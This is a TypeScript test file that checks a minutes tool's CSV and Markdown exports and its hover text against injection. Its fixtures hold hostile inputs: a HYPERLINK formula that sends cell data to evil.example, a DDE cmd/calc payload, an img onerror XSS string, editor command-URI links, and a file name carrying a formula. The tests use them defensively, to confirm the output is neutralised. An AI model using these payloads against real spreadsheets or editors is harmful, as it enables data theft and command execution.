/**
 * What leaves the product as a file or as rendered Markdown is safe to open: CSV cells that a spreadsheet
 * would run as formulas are written as text (OWASP "CSV injection"), and document text shown as Markdown (the
 * Markdown export, hover) cannot become a link, an image, a command or HTML.
 */
import * as assert from 'assert';
import { createMinutesService, parseUnitsRegistry } from '../../server/src/core';
import { csvField, formatActionsCsv, formatActionsMarkdown } from '../../server/src/core/export';
import { runCli, useTempDirs } from '../cli/helpers';
import { readCsv } from '../util/csv';

const HOSTILE = [
  '# =HYPERLINK("http://evil.example/?"&A1,"Click me")',
  '',
  "## @SUM(1+1)*cmd|' /C calc'!A0",
  '',
  '- [ ] +Send it. 责任单位：=HYPERLINK("x")',
  '- [ ] -2+3 by Friday. Owner: IT',
  '',
].join('\n');

/** True when a spreadsheet would read the cell as a formula. */
const formulaLike = (cell: string): boolean => /^[=+\-@\t\r]/.test(cell);

function records(text: string, file = 'hostile.minutes') {
  const service = createMinutesService({ locale: 'en' });
  return [service.items(service.parse(text), file)];
}

describe('robustness: exports and Markdown from hostile text', function () {
  const temp = useTempDirs();

  it('csvField writes a would-be formula as quoted text with a leading apostrophe', function () {
    for (const start of ['=', '+', '-', '@', '\t', '\r']) {
      assert.strictEqual(csvField(`${start}1+1`), `"'${start}1+1"`);
    }
    assert.strictEqual(csvField('=A1&"x"'), `"'=A1&""x"""`);
    assert.strictEqual(csvField('a=1'), 'a=1');
    assert.strictEqual(csvField('县财政局'), '县财政局');
  });

  it('the CSV export has no cell a spreadsheet would run: titles, sections, owners, item text', function () {
    const rows = readCsv(formatActionsCsv(records(HOSTILE), '2024-01-01'));
    const cells = rows.slice(1).flat();
    assert.ok(rows.length === 3, `two items expected, got ${rows.length - 1}`);
    assert.deepStrictEqual(cells.filter(formulaLike), []);
    assert.ok(cells.includes(`'=HYPERLINK("http://evil.example/?"&A1,"Click me")`), cells.join(' | '));
    assert.ok(cells.includes(`'@SUM(1+1)*cmd|' /C calc'!A0`), cells.join(' | '));
  });

  it('`minutes actions --format csv` writes the same safe cells', function () {
    const dir = temp.make({ 'hostile.minutes': HOSTILE, '=cmd.minutes': HOSTILE });
    const result = runCli(['actions', '--format', 'csv', '.'], dir);
    assert.strictEqual(result.status, 0, result.stderr);
    const cells = readCsv(result.stdout).slice(1).flat();
    assert.ok(cells.length > 0);
    assert.deepStrictEqual(cells.filter(formulaLike), []);
    assert.ok(cells.includes("'=cmd.minutes"), 'a file name starting with = is written as text');
  });

  it('the Markdown export shows file names and item text as text: no image, link, HTML or code span', function () {
    const text = [
      '# Sync',
      '',
      '- [ ] Look at ![x](http://evil.example/a.png) and [here](command:workbench.action.terminal.new). Owner: IT',
      '- [ ] Read <img src=x onerror=alert(1)> and `code`. Owner: IT',
      '',
    ].join('\n');
    const md = formatActionsMarkdown(records(text, 'a`<img src=x onerror=alert(1)>`.minutes'));
    assert.ok(!/!\[[^\]]*\]\(/.test(md), md);
    assert.ok(!/(^|[^\\])\[[^\]]*\]\(/.test(md), md);
    assert.ok(!md.includes('<img'), md);
    assert.ok(!/(^|[^\\])`/.test(md), md);
    assert.ok(md.includes('\\!\\[x\\](http://evil.example/a.png)'), md);
  });

  it('hover shows unit names from the registry as text, not as links or HTML', function () {
    const { registry } = parseUnitsRegistry(
      [
        'units:',
        '  - name: "[Open](command:workbench.action.terminal.new) <img src=x onerror=alert(1)>"',
        '    aliases: [财政]',
        '    parent: "*Parent* <b>x</b>"',
        '',
      ].join('\n'),
    );
    const service = createMinutesService({ locale: 'en', units: registry });
    const text = '# 纪要\n\n会议决定，请@财政 6月底前办理。\n';
    const doc = service.parse(text);
    const hover = service.hover(doc, { line: 2, character: 7 }, undefined, []);
    const value =
      hover && typeof hover.contents === 'object' && 'value' in hover.contents ? hover.contents.value : '';
    assert.ok(value.includes('\\[Open\\](command:workbench.action.terminal.new)'), value);
    assert.ok(!value.includes('<img') && !value.includes('<b>'), value);
    assert.ok(value.includes('\\*Parent\\*'), value);
  });
});
